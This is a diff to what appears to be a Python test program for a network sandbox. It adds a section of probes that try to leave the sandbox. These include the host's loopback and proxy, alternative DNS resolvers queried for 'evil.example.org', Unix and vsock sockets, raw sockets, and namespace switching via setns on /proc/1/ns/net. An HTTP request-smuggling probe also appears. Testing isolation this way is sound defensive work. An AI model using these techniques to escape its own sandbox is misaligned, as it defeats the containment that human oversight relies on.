@@ -19,7 +19,6 @@ import socket
 import struct
 import subprocess
 import sys
-import time
 from collections.abc import Callable
 
 LIBC = ctypes.CDLL(None, use_errno=True)
@@ -368,6 +367,159 @@ def a_request_smuggled_in_a_body(world):
     rest = request(world, b"Host: " + world["host"])
     first = b"POST / HTTP/1.1\r\nHost: good.example.org\r\nContent-Length: 4\r\n"
     say(world, first + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + rest)
+
+
+# --- other ways out -------------------------------------------------------------
+
+
+def answers(family: int, kind: int, address: object, said: bytes) -> bool:
+    with socket.socket(family, kind) as made:
+        made.settimeout(WAIT_S)
+        made.connect(address)
+        made.sendall(said)
+        return made.recv(64) != b""
+
+
+def question(name: bytes, kind: int = 1) -> bytes:
+    """A DNS question, with labels as they are given."""
+    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
+    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)
+
+
+def call(x86: int, arm: int, *arguments) -> int:
+    """A system call by its number; raises OSError."""
+    words = [ctypes.c_char_p(a) if isinstance(a, bytes) else ctypes.c_long(a) for a in arguments]
+    found = LIBC.syscall(ctypes.c_long(x86 if X86 else arm), *words)
+    if found < 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    return found
+
+
+@inside("everybody")
+def a_literal_address_of_the_hosts_loopback(world):
+    return answers(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", world["tcp"]), b"hello")
+
+
+@inside("some")
+def a_literal_address_by_ipv6(world):
+    return answers(socket.AF_INET6, socket.SOCK_STREAM, ("::1", world["tcp6"]), b"hello")
+
+
+@inside("everybody")
+def another_resolver(world):
+    address = (world["resolver"], world["resolver_udp"])
+    return answers(socket.AF_INET, socket.SOCK_DGRAM, address, question(b"evil.example.org"))
+
+
+@inside("everybody")
+def another_resolver_over_tcp(world):
+    said = question(b"evil.example.org")
+    said = struct.pack(">H", len(said)) + said
+    return answers(socket.AF_INET, socket.SOCK_STREAM, (world["resolver"], world["tcp_far"]), said)
+
+
+@inside("everybody")
+def another_resolver_over_http(world):
+    said = b"GET /dns-query?name=evil.example.org HTTP/1.1\r\nHost: dns.example.net\r\n\r\n"
+    return answers(socket.AF_INET, socket.SOCK_STREAM, (world["resolver"], world["tcp_far"]), said)
+
+
+@inside("everybody")
+def the_hosts_proxy(world):
+    said = b"CONNECT evil.example.org:443 HTTP/1.1\r\nHost: evil.example.org:443\r\n\r\n"
+    given = [value for name, value in os.environ.items() if name.lower() == "https_proxy"]
+    port = int(given[0].rpartition(":")[2]) if given else world["tcp"]
+    return answers(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port), said)
+
+
+@inside("everybody")
+def an_abstract_socket_of_the_host(world):
+    return answers(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + world["abstract"], b"hello")
+
+
+@inside("everybody")
+def a_socket_of_the_host_in_the_workspace(world):
+    return answers(socket.AF_UNIX, socket.SOCK_STREAM, world["path"], b"hello")
+
+
+@inside("root")
+def a_raw_socket(world):
+    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+
+
+@inside("root")
+def a_packet_socket(world):
+    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
+
+
+@inside("some")
+def routes_by_netlink(world):
+    ran = subprocess.run(["ip", "route", "show", "table", "all"], capture_output=True, check=True)
+    return ran.stdout or socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
+
+
+@inside("some")
+def a_socket_to_the_hypervisor(world):
+    return socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
+
+
+@inside("some")
+def sockets_by_a_ring(world):
+    return call(425, 425, 8, bytes(120)) >= 0
+
+
+@inside("some")
+def a_network_of_its_own(world):
+    if LIBC.unshare(0x10000000 | 0x40000000) != 0:
+        raise OSError(ctypes.get_errno(), "unshare")
+    return True
+
+
+@inside("some")
+def the_network_of_the_first_process(world):
+    fd = os.open("/proc/1/ns/net", os.O_RDONLY)
+    if LIBC.setns(fd, 0x40000000) != 0:
+        raise OSError(ctypes.get_errno(), "setns")
+    return True
+
+
+@inside("some")
+def another_device(world):
+    with open("/proc/net/dev", encoding="ascii") as table:
+        names = [line.partition(":")[0].strip() for line in list(table)[2:]]
+    with socket.socket() as made:
+        for name in set(names) - {"lo"}:
+            made.setsockopt(socket.SOL_SOCKET, 25, name.encode() + b"\0")  # SO_BINDTODEVICE
+            return True
+    return False
+
+
+@inside("root")
+def addresses_that_are_not_its_own(world):
+    with socket.socket() as made:
+        made.setsockopt(socket.SOL_IP, 19, 1)  # IP_TRANSPARENT
+        return True
+
+
+@inside("root")
+def the_place_of_the_name_server(world):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
+        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
+            made.setsockopt(socket.SOL_SOCKET, option, 1)
+        made.bind((world["name_server"], 53))
+        return True
+
+
+@inside("everybody")
+def a_share_of_a_listener(world):
+    place = socket.gethostbyname(world["shared_host"])
+    # So that it listens: behind the wall nobody does before the name was asked for.
+    with socket.socket() as made:
+        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
+            made.setsockopt(socket.SOL_SOCKET, option, 1)
+        made.bind((place, world["shared_port"]))
+        made.listen()
+        return True
 
 
 # --- the program ----------------------------------------------------------------
